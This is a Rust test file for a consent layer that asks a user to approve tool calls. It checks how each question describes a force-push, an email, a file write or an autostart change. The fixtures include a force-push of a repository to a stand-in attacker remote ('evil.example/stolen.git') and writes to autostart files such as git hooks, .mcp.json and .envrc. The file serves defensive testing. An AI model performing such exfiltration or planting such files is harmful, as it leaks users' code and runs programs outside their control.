//! A question contains everything relevant about its call, in the data that the dialog and the terminal display.

use crate::hostile;
use crate::scripted_user::Next;
use crate::world::World;
use ironcurtain_consent::{Consequence, Lifetime, Preview, Question, Reach, TextPart, Verb};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Command;

/// Creates a test environment with one tool of each kind. Everything except reading in `~/work` requires approval.
fn world() -> World {
    World::with(|prepared| {
        hostile::install(prepared);
        let tool =
            |name: &str, args: Value| json!({ "toolName": name, "serverName": "hostile", "args": args });
        let push = json!({
            "repo_path": ["read-path"],
            "remote": ["git-remote-url"],
            "branch": ["branch-name"],
            "force": ["none"],
        });
        let mail = json!({ "to": ["email-address"], "subject": ["none"], "body": ["email-body"] });
        let issue = json!({ "owner": ["github-owner"], "repo": ["github-repo"], "title": ["none"], "content": ["none"] });
        let tools = [tool("git_push", push), tool("send_email", mail), tool("create_issue", issue)];
        let annotations = json!({ "servers": { "hostile": { "tools": tools } } });
        let work = json!({ "paths": { "roles": ["read-path"], "within": "~/work" } });
        let rules = json!({ "rules": [
            { "name": "work", "if": work, "then": "allow" },
            { "name": "rest", "if": {}, "then": "escalate", "reason": "It needs your word." },
        ] });
        let policy = prepared.home.policy();
        std::fs::write(policy.join("tool-annotations.json"), annotations.to_string()).unwrap();
        std::fs::write(policy.join("compiled-policy.json"), rules.to_string()).unwrap();
    })
}

fn only(world: &World) -> Question {
    let asked = world.user.asked();
    assert_eq!(asked.len(), 1, "{asked:?}");
    asked.into_iter().next().unwrap()
}

/// Returns the label and the sentence of the narrowest offer, which covers one call.
fn narrowest_offer(question: &Question) -> [String; 2] {
    let offer = &question.offers[0];
    assert_eq!(offer.lifetimes, [Lifetime::Once], "{:?}", question.offers);
    [offer.label.clone(), offer.sentence.clone()]
}

fn once() -> Box<Next> {
    Box::new(Next::Allow(Reach::Paths, Lifetime::Once))
}

fn foreign(text: &str) -> TextPart {
    TextPart::Untrusted(text.to_owned())
}

fn on(verb: Verb, path: &Path, note: &str) -> Consequence {
    let object = vec![TextPart::Path(path.to_str().unwrap().to_owned())];
    Consequence { note: Some(note.to_owned()), ..Consequence::new(verb, object) }
}

fn saying(verb: Verb, object: Vec<TextPart>) -> Consequence {
    Consequence::new(verb, object)
}

/// Returns the effect of overwriting an autostart file that has one line.
fn autostart_overwrite(path: &Path, when: &'static str) -> Consequence {
    let path = TextPart::Path(path.to_str().unwrap().to_owned());
    let object =
        vec![TextPart::Fixed("a program that runs "), TextPart::Fixed(when), TextPart::Fixed(": "), path];
    let note = Some("1 of 1 line is removed, 1 is added".to_owned());
    Consequence { note, ..Consequence::new(Verb::Plant, object) }
}

#[test]
fn push_to_unknown_remote_lists_remote_and_branch_first() {
    let world = world();
    let repo = world.path("work/app");
    std::fs::create_dir_all(&repo).unwrap();
    for arguments in [&["init", "-q"][..], &["remote", "add", "origin", "https://evil.example/stolen.git"]] {
        assert!(Command::new("git").arg("-C").arg(&repo).args(arguments).status().unwrap().success());
    }
    let arguments = json!({ "repo_path": repo, "remote": "origin", "branch": "main", "force": true });
    let mut client = world.connect("hostile");
    client.call("git_push", arguments.clone()).refused("the user denied this call");
    let question = only(&world);
    let object = vec![
        foreign("main"),
        TextPart::Fixed(" "),
        TextPart::Fixed("to "),
        foreign("https://evil.example/stolen.git"),
    ];
    let push = Consequence {
        asked_for: Some("origin".to_owned()),
        note: Some("your code leaves this computer; history there is overwritten".to_owned()),
        ..saying(Verb::ForcePush, object)
    };
    let read = Consequence { allowed: true, ..on(Verb::Read, &repo, "folder") };
    assert_eq!(question.consequences, [push, read]);
    assert_eq!(question.with, [], "the verb says it");
    // The offer describes the same push and does not mention that the call reads a folder.
    let pushes = "may force-push main to https://evil.example/stolen.git";
    assert_eq!(
        narrowest_offer(&question),
        ["this exact call".to_owned(), format!("{} {pushes}", question.client.name)]
    );
    world.user.will(*once());
    assert!(client.call("git_push", arguments).ok().contains("origin"));
}

#[test]
fn mail_question_names_recipients_and_issue_question_its_repository() {
    let world = world();
    let mut client = world.connect("hostile");
    let mail = json!({ "to": ["boss@rival.example"], "subject": "Figures", "body": "x".repeat(300) });
    client.call("send_email", mail.clone()).refused("the user denied this call");
    let question = only(&world);
    let object = vec![TextPart::Fixed("a message to "), foreign("boss@rival.example")];
    assert_eq!(question.consequences, [saying(Verb::Send, object)]);
    let body = "x".repeat(300);
    let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    assert_eq!(question.with, [pair("body", &body), pair("subject", "Figures")]);
    assert!(
        narrowest_offer(&question)[1].ends_with(" may send a message to boss@rival.example"),
        "{:?}",
        question.offers
    );
    assert!(question.arguments.contains(&pair("body", &"x".repeat(300))), "the details are complete");
    let issue = json!({ "owner": "acme", "repo": "app", "title": "It leaks", "content": "how" });
    client.call("create_issue", issue).refused("the user denied this call");
    let question = only(&world);
    let object = vec![TextPart::Fixed("to "), foreign("acme/app"), TextPart::Fixed(" on GitHub")];
    assert_eq!(question.consequences, [saying(Verb::Publish, object)]);
    assert_eq!(question.with, [pair("title", "It leaks"), pair("content", "how")]);
    assert_eq!(question.preview, None, "the subject is not a file");
    world.user.will(*once());
    assert!(client.call("send_email", mail).ok().contains("Figures"));
}

#[test]
fn folder_access_for_new_file_and_autostart_are_separate_lines() {
    let world = World::new();
    let (there, new) = (world.file("docs/there.txt", "12 bytes yes"), world.path("docs/new.txt"));
    let hook = world.file("docs/.git/hooks/pre-commit", "old");
    let servers = world.file("docs/.mcp.json", "{}");
    let mut client = world.connect("filesystem");
    let mut asked = |path: &Path| {
        client.write(path, "three").refused("the user denied this call");
        let question = only(&world);
        (question.consequences, question.also)
    };
    let opens = "To do this, the server briefly gets access to everything in ~/docs.".to_owned();
    assert_eq!(asked(&new), (vec![on(Verb::Write, &new, "new file, 5 bytes")], vec![opens]));
    let overwrite = on(Verb::Overwrite, &there, "1 of 1 line is removed, 1 is added");
    assert_eq!(asked(&there), (vec![overwrite], vec![]));
    let runs = "Your own programs run it, outside the sandbox.".to_owned();
    assert_eq!(
        asked(&hook),
        (vec![autostart_overwrite(&hook, "when you use git in this repository")], vec![runs.clone()])
    );
    client.write(&servers, "{}").refused("the user denied this call");
    let question = only(&world);
    assert!(
        question.reason.contains("runs outside the sandbox when you open this folder in"),
        "{}",
        question.reason
    );
    assert_eq!(question.consequences[0].verb, Verb::Plant);
    assert_eq!(question.also, [runs]);
    world.user.will(*once());
    client.write(&new, "three").ok();
    assert_eq!(std::fs::read_to_string(&new).unwrap(), "three");
}

#[test]
fn autostart_file_of_any_kind_is_allowed_only_once() {
    let world = World::new();
    let mut client = world.connect("filesystem");
    for name in [".git/hooks/pre-commit", ".vscode/tasks.json", ".mcp.json", "package.json", ".envrc"] {
        let path = world.file(&format!("docs/app/{name}"), "old");
        client.write(&path, "new").refused("the user denied this call");
        let question = only(&world);
        let [_, sentence] = narrowest_offer(&question);
        assert_eq!(question.offers.len(), 1, "{name}");
        assert!(sentence.contains("may write a program that runs when you "), "{sentence}");
    }
    // Permitted counterpart: a file that never runs automatically can be allowed for longer.
    client.write(&world.file("docs/app/notes.md", "old"), "new").refused("the user denied this call");
    assert!(only(&world).offers.iter().any(|offer| offer.lifetimes.contains(&Lifetime::Session)));
}

#[test]
fn unreadably_long_question_is_refused_and_shorter_is_shown_in_full() {
    let world = World::new();
    let path = world.path("docs/new.txt");
    let mut client = world.connect("filesystem");
    client.write(&path, &"x".repeat(300 * 1024)).refused("this call sends 300 kB of text, too long to show");
    assert_eq!(world.user.count(), 0);
    let long = "y\n".repeat(100 * 1024);
    world.user.will(*once());
    client.write(&path, &long).ok();
    let Some(Preview::Content(shown)) = only(&world).preview else { panic!("no content") };
    assert_eq!((shown.len(), std::fs::read_to_string(&path).unwrap() == long), (long.len() - 1, true));
}

#[test]
fn file_type_change_at_path_asks_again() {
    for lifetime in [Lifetime::Once, Lifetime::Session] {
        let world = World::new();
        let (file, new) = (world.file("docs/a.txt", "a"), world.path("docs/new.txt"));
        let mut client = world.connect("filesystem");
        let then = |change: Box<dyn FnOnce(&Question) + Send>| {
            world.user.will(Next::After(change, Box::new(Next::Allow(Reach::Paths, lifetime))));
        };
        let verbs = || {
            let asked = world.user.asked();
            asked
                .iter()
                .map(|q| (q.consequences[0].verb, q.consequences[0].note.clone().unwrap()))
                .collect::<Vec<_>>()
        };
        // The path did not exist when the question was shown. Now the user has created a file there.
        let at = new.clone();
        then(Box::new(move |_| std::fs::write(at, "the person's").unwrap()));
        client.write(&new, "mine").refused("the user denied this call");
        let expected = [
            (Verb::Write, "new file, 4 bytes".to_owned()),
            (Verb::Overwrite, "1 of 1 line is removed, 1 is added".to_owned()),
        ];
        assert_eq!(verbs(), expected);
        assert_eq!(std::fs::read_to_string(&new).unwrap(), "the person's");
        assert_eq!(world.grants(), [], "an approval of something else has no effect");
        // The path was a file when the question was shown. Now it is a folder.
        let at = file.clone();
        then(Box::new(move |_| {
            std::fs::remove_file(&at).unwrap();
            std::fs::create_dir(&at).unwrap();
        }));
        client.call("get_file_info", json!({ "path": file })).refused("the user denied this call");
        let expected = [(Verb::Read, "1 byte".to_owned()), (Verb::Read, "folder".to_owned())];
        assert_eq!(verbs(), expected);
        assert_eq!(world.grants(), []);
        // The question showed the file's new content. An approval for one call covers only that content, but a grant
        // covers any content.
        let at = new.clone();
        then(Box::new(move |_| std::fs::write(at, "longer than it was").unwrap()));
        if lifetime == Lifetime::Once {
            client.write(&new, "mine").refused("the user denied this call");
            let shown = world.user.asked().pop().unwrap().preview;
            let now = "-longer than it was\n… no line end\n+mine\n… no line end";
            assert_eq!(shown, Some(Preview::Diff(now.to_owned())));
            world.user.will(*once());
        }
        client.write(&new, "mine").ok();
        assert_eq!(verbs().len(), 1);
        assert_eq!(std::fs::read_to_string(&new).unwrap(), "mine");
    }
}

#[test]
fn write_and_edit_questions_show_a_line_diff() {
    let world = World::new();
    let before: String = (1..=20).map(|n| format!("{n}\n")).collect();
    let file = world.file("docs/list.txt", &before);
    let after = before.replace("10\n", "ten\n");
    let mut client = world.connect("filesystem");
    let lines = "… line 7\n 7\n 8\n 9\n-10\n+ten\n 11\n 12\n 13";
    let edits = json!({ "path": file, "edits": [{ "oldText": "10", "newText": "ten" }] });
    client.write(&file, &after).refused("the user denied this call");
    let write = only(&world);
    client.call("edit_file", edits.clone()).refused("the user denied this call");
    let edit = only(&world);
    for (question, verb) in [(write, Verb::Overwrite), (edit, Verb::Change)] {
        assert_eq!(question.preview, Some(Preview::Diff(lines.to_owned())));
        assert_eq!(question.consequences[0].verb, verb);
        assert!(
            question.consequences[0].note.as_ref().unwrap().ends_with("1 of 20 lines is removed, 1 is added"),
            "{question:?}"
        );
    }
    world.user.will(*once());
    client.call("edit_file", edits).ok();
    assert_eq!(std::fs::read_to_string(&file).unwrap(), after, "the written content is what was shown");
    assert_eq!(only(&world).preview, Some(Preview::Diff(lines.to_owned())));
    std::fs::write(&file, b"\0\xff").unwrap();
    client.write(&file, "text").refused("the user denied this call");
    let note = "replaces 2 bytes with 4 bytes, not compared: it is not text".to_owned();
    assert_eq!(only(&world).consequences[0].note, Some(note));
}

#[test]
fn only_sandboxed_access_to_existing_files_can_be_batched() {
    let world = World::new();
    let (one, two) = (world.file("docs/one.txt", "1"), world.file("docs/two.txt", "2"));
    let package = world.file("docs/package.json", "{}");
    let new = world.path("docs/new.txt");
    let edit =
        |path: &Path, old: &str| json!({ "path": path, "edits": [{ "oldText": old, "newText": "3" }] });
    let mut client = world.connect("filesystem");
    let mut fits = |tool: &str, arguments: Value| {
        client.call(tool, arguments).refused("the user denied this call");
        only(&world).fits_a_batch
    };
    assert!(fits("read_text_file", json!({ "path": one })));
    assert!(fits("read_multiple_files", json!({ "paths": [one, two] })));
    assert!(fits("edit_file", edit(&one, "1")));
    for (tool, arguments) in [
        ("edit_file", edit(&package, "{}")),
        ("write_file", json!({ "path": one, "content": "3" })),
        ("write_file", json!({ "path": new, "content": "3" })),
        ("list_directory", json!({ "path": one.parent() })),
        ("move_file", json!({ "source": one, "destination": new })),
    ] {
        assert!(!fits(tool, arguments.clone()), "{tool} {arguments}");
    }
    let outside = hostile::contained(&json!(false));
    let file = outside.file("docs/one.txt", "1");
    outside.connect("hostile").open(&file).refused("the user denied this call");
    let question = only(&outside);
    assert!(!question.sandboxed && !question.fits_a_batch, "{question:?}");
}
